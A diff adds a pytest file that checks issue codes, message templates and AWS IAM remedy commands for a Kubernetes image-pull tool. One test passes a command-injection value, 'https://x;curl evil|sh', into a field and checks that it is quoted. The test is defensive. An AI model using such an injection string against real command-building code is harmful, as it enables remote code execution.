@@ -1,0 +1,175 @@
+from __future__ import annotations
+
+import re
+import string
+from pathlib import Path
+
+import pytest
+
+from schemas.issues import KINDS, VALUES, IssueKind, issue
+
+# Every code that the controller and the agent may speak in.
+CODES = [
+    "ConnectionMissing",
+    "ClusterUnreachable",
+    "CredentialRefused",
+    "ConnectionExpiring",
+    "RightsMissing",
+    "AlreadyManaged",
+    "KubernetesTooOld",
+    "ApplyRefused",
+    "IssuerNotUsable",
+    "IssuerNotSwitched",
+    "IssuerKeysChanged",
+    "PublicUrlMissing",
+    "RoleArnMissing",
+    "RegistriesUnknown",
+    "TrustPolicyTooLong",
+    "AgentNotRunning",
+    "AgentNotReporting",
+    "OidcProviderMissing",
+    "AudienceNotAllowed",
+    "AudienceAmbiguous",
+    "VerificationKeyUnavailable",
+    "TrustPolicyMismatch",
+    "TokenExpired",
+    "IdentityProviderUnreachable",
+    "ClaimRejected",
+    "StsRegionDisabled",
+    "StsUnreachable",
+    "StsRefused",
+    "EcrAccessDenied",
+    "EcrUnreachable",
+    "EcrRefused",
+    "RegistryAccessDenied",
+    "RegistryUnreachable",
+    "ImageNotFound",
+    "SecretNotOurs",
+    "NamespaceWriteRefused",
+    "TokenUnreadable",
+]
+
+PAGE = Path(__file__).parents[3] / "docs" / "reference" / "issues.md"
+VALUES_OF_DEMO = {
+    "CLUSTER": "demo",
+    "ORG": "acme",
+    "ISSUER": "https://oidc.example.com/x",
+    "ISSUER_HOST": "oidc.example.com/x",
+    "AUDIENCE": "sts.amazonaws.com",
+    "ROLE_ARN": "arn:aws-cn:iam::123456789012:role/pull",
+    "ROLE_NAME": "pull",
+    "PARTITION": "aws-cn",
+    "ACCOUNT": "123456789012",
+    "MESSAGE": "AccessDenied: Not authorized",
+}
+
+
+def test_the_codes_are_the_agreed_ones() -> None:
+    assert set(KINDS) == set(CODES)
+
+
+def test_every_code_has_a_section_in_the_documentation() -> None:
+    sections = re.findall(r"^## ([A-Z]\w+)$", PAGE.read_text(encoding="utf-8"), re.MULTILINE)
+    assert sorted(sections) == sorted(KINDS)
+
+
+@pytest.mark.parametrize("kind", KINDS.values(), ids=list(KINDS))
+def test_a_template_names_known_values_only(kind: IssueKind) -> None:
+    named = {
+        name
+        for template in (kind.message, kind.remedy)
+        for _, name, form, conversion in string.Formatter().parse(template)
+        if name is not None and not form and not conversion
+    }
+    assert named <= VALUES.keys()
+
+
+def test_every_known_value_is_explained() -> None:
+    assert all(VALUES.values())
+
+
+@pytest.mark.parametrize("code", CODES)
+def test_an_issue_with_all_values_leaves_no_placeholder(code: str) -> None:
+    found = issue(code, dict.fromkeys(VALUES, "x"), resources=("Namespace/shop",))
+    assert "${" not in found.message + found.remedy
+    assert (found.code, found.resources) == (code, ("Namespace/shop",))
+    assert "\n" not in found.message + found.remedy
+
+
+@pytest.mark.parametrize(
+    ("code", "remedy"),
+    [
+        ("ConnectionMissing", "pullpass connect demo --org acme --context CONTEXT"),
+        (
+            "OidcProviderMissing",
+            (
+                "In account 123456789012: aws iam create-open-id-connect-provider"
+                " --url https://oidc.example.com/x --client-id-list sts.amazonaws.com"
+            ),
+        ),
+        (
+            "AudienceNotAllowed",
+            (
+                "In account 123456789012: aws iam add-client-id-to-open-id-connect-provider --open-id-connect-provider-arn"
+                " arn:aws-cn:iam::123456789012:oidc-provider/oidc.example.com/x --client-id sts.amazonaws.com"
+            ),
+        ),
+        (
+            "TrustPolicyMismatch",
+            (
+                'curl -sf -H "Authorization: Bearer $PULLPASS_TOKEN"'
+                ' "$PULLPASS_ENDPOINT"/org/acme/mk8s/demo/-addons/awsECR/trustPolicy > trust-policy.json'
+                " && aws iam update-assume-role-policy --role-name pull --policy-document file://trust-policy.json"
+            ),
+        ),
+        (
+            "EcrAccessDenied",
+            (
+                "aws iam attach-role-policy --role-name pull"
+                " --policy-arn arn:aws-cn:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly"
+            ),
+        ),
+    ],
+)
+def test_a_remedy_is_the_exact_command(code: str, remedy: str) -> None:
+    assert issue(code, VALUES_OF_DEMO).remedy == remedy
+
+
+def test_the_message_carries_the_words_of_whoever_refused() -> None:
+    assert issue("StsRefused", VALUES_OF_DEMO).message == (
+        "STS refuses to let the agent assume arn:aws-cn:iam::123456789012:role/pull."
+        " AWS says: AccessDenied: Not authorized"
+    )
+
+
+def test_the_flags_of_a_published_issuer_stand_as_they_are() -> None:
+    flags = "--service-account-issuer=https://a --service-account-issuer=https://b"
+    assert issue("IssuerNotSwitched", {"FLAGS": flags}).remedy.endswith(f"restart it: {flags}")
+
+
+@pytest.mark.parametrize("values", [{}, {"ACCOUNT": "", "ISSUER": ""}])
+def test_a_missing_value_stays_for_the_user_to_fill_in(values: dict[str, str]) -> None:
+    assert issue("OidcProviderMissing", values).remedy == (
+        "In account ${AWS_ACCOUNT_ID}: aws iam create-open-id-connect-provider"
+        " --url ${ISSUER} --client-id-list ${AUDIENCE}"
+    )
+
+
+def test_a_value_cannot_smuggle_a_command_into_a_remedy() -> None:
+    found = issue("OidcProviderMissing", {**VALUES_OF_DEMO, "ISSUER": "https://x;curl evil|sh"})
+    assert "--url 'https://x;curl evil|sh' " in found.remedy
+
+
+def test_a_value_goes_on_one_line_of_readable_length() -> None:
+    found = issue("StsRefused", {**VALUES_OF_DEMO, "MESSAGE": "a\n b" + "x" * 5000})
+    assert "a b" in found.message
+    assert len(found.message) < 1200
+
+
+def test_a_value_is_never_a_template() -> None:
+    assert "{CLUSTER}" in issue("StsRefused", {**VALUES_OF_DEMO, "MESSAGE": "{CLUSTER}"}).message
+
+
+def test_there_is_no_issue_without_a_kind() -> None:
+    with pytest.raises(KeyError):
+        issue("SomethingWrong", {})
